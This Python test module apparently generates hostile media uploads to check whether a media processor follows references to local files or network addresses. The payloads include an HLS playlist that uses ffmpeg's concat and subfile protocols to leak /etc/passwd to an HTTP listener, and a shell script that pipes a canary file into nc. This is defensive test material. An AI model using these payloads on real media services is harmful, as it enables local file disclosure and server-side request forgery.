"""Playlists, scripts and manifests that name another file (the canary) or an address (the listeners)."""

from __future__ import annotations

from collections.abc import Callable

from tests.hostile.boxes import box, replaced, u32
from tests.hostile.ebml import Mkv, element
from tests.hostile.made import Around, Clips, Input


def _text(write: Callable[[Around], str]) -> Callable[[Clips], bytes]:
    return lambda clips: write(clips.around).encode()


def _hls(target: str, before: str = "", end: str = "#EXT-X-ENDLIST\n") -> str:
    return f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:4\n{before}#EXTINF:4.0,\n{target}\n{end}"


def _http(around: Around, name: str = "a.ts") -> str:
    return f"http://127.0.0.1:{around.http}/{name}"


def _dash(base: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT4S">'
        f'<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1"><BaseURL>{base}</BaseURL>'
        '<SegmentBase indexRange="0-100"/></Representation></AdaptationSet></Period></MPD>'
    )


def _sdp(around: Around, media: str = "RTP/AVP 96\na=rtpmap:96 H264/90000") -> str:
    return f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {around.udp} {media}\n"


def _elsewhere(kind: bytes, target: str) -> Callable[[Clips], bytes]:
    """An MP4 whose pictures lie in another file, as QuickTime's data references allow."""

    def make(clips: Clips) -> bytes:
        where = target.format(canary=clips.around.canary, http=_http(clips.around))
        content = where.encode() + b"\0" if kind == b"url " else bytes(150) + where.encode()
        return replaced(clips.mp4_late, b"dref", u32(0, 1) + box(kind, u32(0), content))

    return make


def _reference_movie(clips: Clips) -> bytes:
    target = _http(clips.around, "a.mov").encode() + b"\0"
    reference = box(b"rdrf", u32(0), b"url ", u32(len(target)), target)
    return box(b"ftyp", b"qt  ", u32(0), b"qt  ") + box(b"moov", box(b"rmra", box(b"rmda", reference)))


def _linked_matroska(clips: Clips) -> bytes:
    """Names its next part by file, as Matroska's linked segments do."""
    name = str(clips.around.canary).encode()
    info = element(b"\x15I\xa9f", element(b"\x3e\x83\xbb", name), element(b"\x3c\x83\xab", name), element(b"\x3e\xb9\x23", b"x" * 16))
    return Mkv([(40 * n, jpeg, True) for n, jpeg in enumerate(clips.jpegs)], more=info).bytes()


_LISTS: dict[str, tuple[Callable[[Around], str], str, str]] = {
    "hls of a file": (lambda a: _hls(str(a.canary)), "nested", "upload.mp4"),
    "hls of a file, by its own name": (lambda a: _hls(str(a.canary)), "nested", "list.m3u8"),
    "hls of a file address": (lambda a: _hls(f"file://{a.canary}"), "nested", "list.m3u8"),
    "hls of a relative file": (lambda a: _hls(a.canary.name), "nested", "list.m3u8"),
    "hls over http": (lambda a: _hls(_http(a)), "nested", "list.m3u8"),
    "hls that never ends": (lambda a: _hls(_http(a), end=""), "nested", "list.m3u8"),
    "hls of lists": (
        lambda a: f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{_http(a, 'b.m3u8')}\n#EXT-X-STREAM-INF:BANDWIDTH=2\n{a.canary}\n",
        "nested",
        "list.m3u8",
    ),
    "hls with a key elsewhere": (
        lambda a: _hls(str(a.canary), f'#EXT-X-KEY:METHOD=AES-128,URI="{_http(a, "key")}"\n'),
        "nested",
        "list.m3u8",
    ),
    "hls with a map elsewhere": (lambda a: _hls(_http(a), f'#EXT-X-MAP:URI="{a.canary}"\n'), "nested", "list.m3u8"),
    "hls by a protocol in a protocol": (lambda a: _hls(f"subfile,,start,0,end,0,,:{a.canary}"), "nested", "list.m3u8"),
    "hls of two files glued": (lambda a: _hls(f"concat:{a.canary}|{_http(a)}"), "nested", "list.m3u8"),
    "hls that leaks a file into an address": (
        lambda a: _hls(f"concat:{_http(a)}|subfile,,start,0,end,9,,:/etc/passwd"),
        "nested",
        "a.m3u8",
    ),
    "hls behind a byte order mark": (lambda a: "\ufeff" + _hls(str(a.canary)), "nested", "list.m3u8"),
    "hls behind empty lines": (lambda a: "\n\n " + _hls(str(a.canary)), "nested", "list.m3u8"),
    "hls named as avi": (lambda a: _hls(str(a.canary)), "nested", "upload.avi"),
    "a plain list": (lambda a: f"{a.canary}\n{_http(a)}\n", "format", "list.m3u"),
    "one address": (lambda a: _http(a), "format", "upload.strm"),
    "a winamp list": (lambda a: f"[playlist]\nFile1={_http(a)}\nFile2={a.canary}\nNumberOfEntries=2\n", "nested", "upload.pls"),
    "dash of a file": (lambda a: _dash(str(a.canary)), "nested", "upload.mpd"),
    "dash over http": (lambda a: _dash(_http(a, "a.mp4")), "nested", "upload.mp4"),
    "dash behind a comment": (lambda a: "<!-- x -->" + _dash(_http(a)), "nested", "upload.mpd"),
    "an imf list": (
        lambda a: (
            f'<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>{a.canary}</Id></CompositionPlaylist>'
        ),
        "nested",
        "cpl.xml",
    ),
    "an imf map of files": (
        lambda a: f'<?xml version="1.0"?><AssetMap><AssetList><Asset><Path>{a.canary}</Path></Asset></AssetList></AssetMap>',
        "nested",
        "ASSETMAP.xml",
    ),
    "smil": (lambda a: f'<smil><body><video src="{_http(a)}"/></body></smil>', "nested", "upload.smil"),
    "asx": (lambda a: f'<asx version="3.0"><entry><ref href="{_http(a)}"/></entry></asx>', "nested", "upload.asx"),
    "xspf": (
        lambda a: f'<?xml version="1.0"?><playlist><trackList><track><location>{_http(a)}</location></track></trackList></playlist>',
        "nested",
        "a.xspf",
    ),
    "an svg that shows a file": (
        lambda a: f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{a.canary}"/></svg>',
        "picture nested",
        "upload.svg",
    ),
    "a session over udp": (lambda a: _sdp(a), "nested", "upload.sdp"),
    "a session named as mp4": (lambda a: _sdp(a), "nested", "upload.mp4"),
    "a session of a transport stream": (lambda a: _sdp(a, "RTP/AVP 33"), "nested", "upload.sdp"),
    "a concat script of a relative file": (lambda a: f"ffconcat version 1.0\nfile {a.canary.name}\n", "nested", "upload.ffconcat"),
    "a concat script of a file": (lambda a: f"ffconcat version 1.0\nfile '{a.canary}'\n", "nested", "upload.mp4"),
    "a concat script of an address": (lambda a: f"ffconcat version 1.0\nfile '{_http(a)}'\noption timeout 1\n", "nested", "upload.mp4"),
    "a concat script that says nothing of itself": (lambda a: f"file '{a.canary}'\n", "format nested", "upload.mp4"),
    "ffmpeg's own metadata": (lambda a: f";FFMETADATA1\ntitle={a.canary}\n", "format", "upload.mp4"),
    "an avisynth script": (lambda a: f'DirectShowSource("{a.canary}")\n', "format", "upload.avs"),
    "a lavfi graph": (lambda a: f"movie={a.canary}", "format", "upload.mp4"),
    "a shell script": (lambda a: f"#!/bin/sh\ncat {a.canary} | nc 127.0.0.1 {a.http}\n", "format", "upload.sh"),
    "a pattern of pictures": (lambda a: "img%03d.png\n", "format", "img%03d.mp4"),
}

INPUTS = [
    *(Input(name, _text(write), wanted, stored_as) for name, (write, wanted, stored_as) in _LISTS.items()),
    Input("an mp4 whose pictures lie in a file", _elsewhere(b"url ", "file://{canary}"), "nested accepted partial no_frames damaged"),
    Input("an mp4 whose pictures lie at an address", _elsewhere(b"url ", "{http}"), "nested accepted partial no_frames damaged"),
    Input("a mov with an alias to a file", _elsewhere(b"alis", "{canary}"), "nested accepted partial no_frames damaged", "upload.mov"),
    Input("a reference movie", _reference_movie, "nested", "upload.mov"),
    Input("a linked matroska", _linked_matroska, "accepted", "upload.mkv"),
]
